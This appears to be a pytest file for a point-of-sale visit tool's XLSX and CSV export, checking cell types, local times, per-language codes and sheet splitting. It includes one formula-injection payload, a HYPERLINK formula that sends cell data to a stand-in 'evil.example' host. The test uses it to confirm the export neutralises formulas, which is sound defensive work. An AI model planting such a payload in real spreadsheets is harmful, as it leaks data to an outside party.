"""`pos-tui export --format xlsx`, read back with openpyxl as a spreadsheet would: the types
of the cells (identifiers text, times date-times in local time, counts numbers), codes in
each visit's language, the frozen header and filters, nothing a formula; and the CSV's
local times and new columns (issue #19). Real stores on disk, visits made as the app makes
them.
"""

from __future__ import annotations

import csv
import subprocess
import sys
import time
import weakref
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from pos_tui.cli import main
from pos_tui.demo import demo_sessions
from pos_tui.domain.checklist import Checklist
from pos_tui.domain.session import Outcome, Session
from pos_tui.domain.visit_info import VisitInfo
from pos_tui.reports import xlsx
from pos_tui.reports.export import CSV_COLUMNS, local_time
from pos_tui.store.local import LocalStore
from pos_tui.store.sources import LocalSource, VisitRecord
from tests.helpers.visits import laptop_key, save_answer, save_sign

ROOT = Path(__file__).resolve().parents[2]
BEIJING = timezone(timedelta(hours=8))
ZH_UUID = "11111111-7d3b-4c1a-9e6f-2b8d4a1c0e37"
EN_UUID = "22222222-7d3b-4c1a-9e6f-2b8d4a1c0e37"
MERCHANT_NUMBER = "310104000000001"  # 15 digits: a number cell would show 3.10104E+14
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
CARD = "4111 1111 1111 1111"  # a Luhn-valid test card number


@pytest.fixture
def far_from_beijing(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The exporting computer five hours behind UTC (a POSIX rule, no tz database needed),
    so a local time differs from the stored one by 13 hours and a date by one day."""
    monkeypatch.setenv("TZ", "XYZ+05")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def clock_from(start: datetime) -> Callable[[], datetime]:
    moment = [start]

    def clock() -> datetime:
        moment[0] += timedelta(minutes=2)
        return moment[0]

    return clock


def make_visit(
    store: LocalStore, checklists: list[Checklist], uuid: str, language: str, sign: bool = True
) -> Session:
    info = VisitInfo(
        job_type="reactivation",
        reason="device_fault",
        merchant_name="上海老王面馆",
        merchant_number=MERCHANT_NUMBER,
        terminal_number="00240001",
        terminal_serial="PA0012345678",
        model="PAX A920",
        capabilities=("chip", "pinpad", "printer"),
        technician="张伟",
        device_id="laptop-07",
        language=language,
        credit_code="91310000631696382C",
        tusn="000002A920PA0012345678",
        sim_iccid="8986001234567890120",
    )
    start = datetime(2025, 3, 4, 9, 30, tzinfo=BEIJING)
    session = Session.start(info, checklists, clock=clock_from(start))
    session.uuid = uuid
    store.create(session)
    save_answer(
        store,
        session,
        "card",
        "chip-pin",
        Outcome.PASS,
        values={"reference": "202503040001", "amount": "0.01", "last4": "1111"},
    )
    save_answer(store, session, "card", "void", Outcome.FAIL, note=HOSTILE)
    save_answer(store, session, "card", "shield", Outcome.NA, note=f"卡号 {CARD}")
    save_answer(store, session, "receipt", "masked", Outcome.PASS)
    save_answer(store, session, "receipt", "clock", Outcome.PASS)
    if sign:
        save_sign(store, session, "张伟", "王老板", signer=laptop_key(store))
    return session


@pytest.fixture
def folder(tmp_path: Path, checklists: list[Checklist]) -> Path:
    with LocalStore.open(tmp_path / "data") as store:
        make_visit(store, checklists, ZH_UUID, "zh")
        make_visit(store, checklists, EN_UUID, "en")
        make_visit(store, checklists, "d" * 8, "en", sign=False)
    return tmp_path / "data"


def export(folder: Path, *args: str) -> Any:
    return CliRunner().invoke(main, ["export", "--store", str(folder), *args])


def sheet_rows(sheet: Any) -> list[dict[str, Any]]:
    """Each row as {column: cell}, by the header's names."""
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_the_workbook_has_typed_cells(folder: Path, tmp_path: Path, far_from_beijing: None) -> None:
    out = tmp_path / "visits.xlsx"
    done = export(folder, "--out", str(out))
    assert done.exit_code == 0, done.output
    assert done.stdout == f"Exported 2 visit(s) (12 rows) to {out}.\n"  # the draft left out
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["visits", "answers"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        last = sheet.cell(1, sheet.max_column).column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    visits = {row["visit_uuid"].value: row for row in sheet_rows(book["visits"])}
    assert set(visits) == {ZH_UUID, EN_UUID}
    zh = visits[ZH_UUID]
    # Identifiers are text: never 3.10104E+14, a lost leading zero, or 1 for "1.0".
    for column, text in [
        ("merchant_number", MERCHANT_NUMBER),
        ("terminal_number", "00240001"),
        ("credit_code", "91310000631696382C"),
        ("tusn", "000002A920PA0012345678"),
        ("sim_iccid", "8986001234567890120"),
    ]:
        assert zh[column].value == text and zh[column].data_type == "s", column
    assert isinstance(zh["content_sha256"].value, str) and len(zh["content_sha256"].value) == 64
    assert (zh["status"].value, zh["verdict"].value) == ("已签署", "不通过")
    assert (visits[EN_UUID]["status"].value, visits[EN_UUID]["verdict"].value) == (
        "Signed",
        "Fail",
    )
    assert zh["integrity"].value == "完整" and visits[EN_UUID]["integrity"].value == "Intact"
    assert zh["failures"].value == 1 and zh["items_answered"].value == 5  # counts are numbers
    assert zh["job_type"].value == "重新激活" and zh["job_reason"].value == "设备故障"
    # Times: real date-times, in this computer's time: 09:30 in Beijing is 20:30 the day
    # before, five hours behind UTC.
    arrived = zh["arrived_at"].value
    assert isinstance(arrived, datetime) and arrived == datetime(2025, 3, 3, 20, 32)
    assert zh["arrived_at"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert zh["reviewed_at"].value is None  # empty stays empty

    answers = sheet_rows(book["answers"])
    assert len(answers) == 12
    mine = {row["item_id"].value: row for row in answers if row["visit_uuid"].value == ZH_UUID}
    theirs = {row["item_id"].value: row for row in answers if row["visit_uuid"].value == EN_UUID}
    chip = mine["chip-pin"]
    assert chip["checklist_version"].value == "1.0" and chip["checklist_version"].data_type == "s"
    assert chip["merchant_number"].value == MERCHANT_NUMBER
    # One column per captured value, text as typed ("0.01" stays "0.01").
    assert chip["value:reference"].value == "202503040001"
    assert chip["value:amount"].value == "0.01" and chip["value:amount"].data_type == "s"
    assert chip["value:last4"].value == "1111"
    assert mine["void"]["value:reference"].value is None
    with LocalStore.open(folder, read_only=True) as store:
        stored = store.load(ZH_UUID).answer("card", "chip-pin")
    assert stored is not None
    answered = chip["answered_at"].value
    assert isinstance(answered, datetime)
    assert answered == datetime.fromisoformat(stored.at).astimezone().replace(tzinfo=None)
    assert answered == local_time(stored.at)
    # Codes in the visit's own language, next to titles in it.
    assert (mine["void"]["outcome"].value, mine["void"]["severity"].value) == ("不通过", "重要")
    assert (theirs["void"]["outcome"].value, theirs["void"]["severity"].value) == (
        "FAIL",
        "Major",
    )
    assert mine["tap"]["applicable"].value == "不适用（终端无此功能）"
    assert theirs["chip-pin"]["applicable"].value == "Yes"
    assert mine["void"]["item_title"].value == "当日撤销"
    assert theirs["void"]["item_title"].value == "Same-day void"
    # A note that would be a formula is a string, quoted as in the CSV; card numbers masked.
    note = mine["void"]["note"]
    assert note.data_type == "s" and note.value == "'" + HOSTILE
    assert "1111 1111" not in str(mine["shield"]["note"].value)
    with zipfile.ZipFile(out) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(name) for name in sheets)


def test_lang_sets_the_words_of_every_visit(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "visits.xlsx"
    assert export(folder, "--out", str(out), "--lang", "en").exit_code == 0
    answers = sheet_rows(openpyxl.load_workbook(out)["answers"])
    assert {row["outcome"].value for row in answers if row["item_id"].value == "void"} == {"FAIL"}


def test_drafts_only_when_asked_for(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "visits.xlsx"
    done = export(folder, "--format", "xlsx", "--out", str(out), "--drafts")
    assert done.exit_code == 0, done.output
    visits = sheet_rows(openpyxl.load_workbook(out)["visits"])
    draft = [row for row in visits if row["visit_uuid"].value == "d" * 8]
    assert [row["status"].value for row in draft] == ["Draft"]
    assert draft[0]["integrity"].value == "Unsigned" and draft[0]["signed_at"].value is None


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--format", "xlsx"], "binary file"),
        (["--format", "xlsx", "--out", "-"], "binary file"),
        (["--format", "xlsx", "--out", "{tmp}/v.txt"], "ending in .xlsx"),
        (["--format", "xlsx", "--out", "{tmp}/v.csv"], "--format xlsx and v.csv disagree"),
        (["--format", "csv", "--out", "{tmp}/v.xlsx"], "--format csv and v.xlsx disagree"),
        (["--format", "json", "--out", "{tmp}/v.csv"], "--format json and v.csv disagree"),
    ],
)
def test_an_output_the_export_cannot_be_is_refused(
    folder: Path, tmp_path: Path, args: list[str], said: str
) -> None:
    done = export(folder, *(arg.format(tmp=tmp_path) for arg in args))
    assert done.exit_code == 1 and said in done.stderr, done.output
    assert done.stdout == "" and not list(tmp_path.glob("v.*"))


def test_out_dash_is_standard_output_for_csv(folder: Path) -> None:
    done = export(folder, "--out", "-")
    assert done.exit_code == 0 and done.stdout_bytes.startswith(b"\xef\xbb\xbfvisit_uuid,")


def test_the_csv_has_local_times_and_the_new_columns(
    folder: Path, tmp_path: Path, far_from_beijing: None
) -> None:
    out = tmp_path / "visits.csv"
    assert export(folder, "--out", str(out), "--no-value-columns").exit_code == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(out, encoding="utf-8-sig", newline="") as file:
        reader = csv.DictReader(file)
        # With --no-value-columns the header is exactly the documented one.
        assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
        rows = list(reader)
    # The old columns keep their places; the new ones come after them.
    assert CSV_COLUMNS[:5] == ("visit_uuid", "visit_date", "status", "verdict", "merchant_name")
    assert CSV_COLUMNS.index("follow_up_of_sha256") == 39
    chip = next(r for r in rows if r["visit_uuid"] == ZH_UUID and r["item_id"] == "chip-pin")
    assert chip["answered_at"] == "2025-03-03 20:36:00"  # 09:36 in Beijing
    assert chip["arrived_at"] == "2025-03-03 20:32:00"
    assert chip["signed_at"].startswith("2025-03-03 20:")
    assert (chip["tusn"], chip["sim_iccid"]) == ("000002A920PA0012345678", "8986001234567890120")
    assert chip["credit_code"] == "91310000631696382C" and chip["language"] == "zh"
    assert chip["outcome"] == "pass" and chip["severity"] == "critical"  # codes, for scripts
    assert chip["merchant_representative"] == "王老板"

    wide = tmp_path / "wide.csv"
    assert export(folder, "--out", str(wide)).exit_code == 0  # value columns by default
    with open(wide, encoding="utf-8-sig", newline="") as file:
        reader = csv.DictReader(file)
        header = tuple(reader.fieldnames or ())
        rows = list(reader)
    assert header == (*CSV_COLUMNS, "value:reference", "value:amount", "value:last4")
    chip = next(r for r in rows if r["visit_uuid"] == ZH_UUID and r["item_id"] == "chip-pin")
    assert (chip["value:reference"], chip["value:amount"]) == ("202503040001", "0.01")
    assert chip["values"] == "reference=202503040001; amount=0.01; last4=1111"


class CountingSource:
    """Wraps a source and counts how many visit records are alive at any one time."""

    def __init__(self, inner: LocalSource) -> None:
        self.inner = inner
        self.folder = inner.folder
        self.alive: weakref.WeakSet[Session] = weakref.WeakSet()
        self.most_alive = 0

    def rows(self) -> list[dict[str, Any]]:
        return self.inner.rows()

    def record(self, row: dict[str, Any]) -> VisitRecord:
        record = self.inner.record(row)
        self.alive.add(record.session)
        self.most_alive = max(self.most_alive, len(self.alive))
        return record

    def close(self) -> None:
        self.inner.close()


def test_the_workbook_holds_one_visit_at_a_time_and_goes_on_past_a_full_sheet(
    tmp_path: Path, checklists: list[Checklist], monkeypatch: pytest.MonkeyPatch
) -> None:
    with LocalStore.open(tmp_path / "data") as store:
        store.bulk_add(demo_sessions(checklists, 12, seed=5))
    # Six items a visit: 72 answer rows, 30 to a sheet (header included).
    monkeypatch.setattr(xlsx, "MAX_ROWS", 30)
    source = CountingSource(LocalSource(tmp_path / "data"))
    out = tmp_path / "many.xlsx"
    try:
        stats = xlsx.write_xlsx(source, source.rows(), out)
    finally:
        source.close()
    assert stats.visits == 12 and stats.rows == 72 and not stats.skipped
    assert source.most_alive <= 2
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["visits", "answers", "answers 2", "answers 3"]
    assert [book[name].max_row - 1 for name in book.sheetnames[1:]] == [29, 29, 14]
    for sheet in book.worksheets:
        assert sheet["A1"].value == "visit_uuid" and sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref is not None


def test_a_sheet_is_closed_by_its_size_well_before_a_zip_part_needs_zip64(
    tmp_path: Path, checklists: list[Checklist], monkeypatch: pytest.MonkeyPatch
) -> None:
    """100,000 visits filled sheets of 2.26 GB, over the 2 GiB a zip part may be without
    ZIP64 (the export failed at its end): the answers go on into the next sheet once the
    XML counted so far reaches `MAX_SHEET_BYTES`, and the count is never below the truth."""
    with LocalStore.open(tmp_path / "data") as store:
        store.bulk_add(demo_sessions(checklists, 12, seed=5))
    monkeypatch.setattr(xlsx, "MAX_SHEET_BYTES", 20_000)
    source = LocalSource(tmp_path / "data")
    out = tmp_path / "sized.xlsx"
    try:
        stats = xlsx.write_xlsx(source, source.rows(), out)
    finally:
        source.close()
    book = openpyxl.load_workbook(out)
    answers = [name for name in book.sheetnames if name.startswith("answers")]
    assert len(answers) >= 2 and stats.rows == 72
    assert sum(book[name].max_row - 1 for name in answers) == 72  # every row, once
    with zipfile.ZipFile(out) as archive:
        parts = [info for info in archive.infolist() if info.filename.startswith("xl/worksheets/")]
        assert len(parts) == len(book.sheetnames)
        biggest_row = 4_000  # the row that took a sheet over the mark, and the sheet's frame
        assert all(info.file_size <= 20_000 + biggest_row for info in parts), [
            (info.filename, info.file_size) for info in parts
        ]


def test_starting_the_app_does_not_load_xlsxwriter() -> None:
    script = "import sys, pos_tui.cli, pos_tui.reports.export; print('xlsxwriter' in sys.modules)"
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, check=True
    )
    assert done.stdout.strip() == "False"
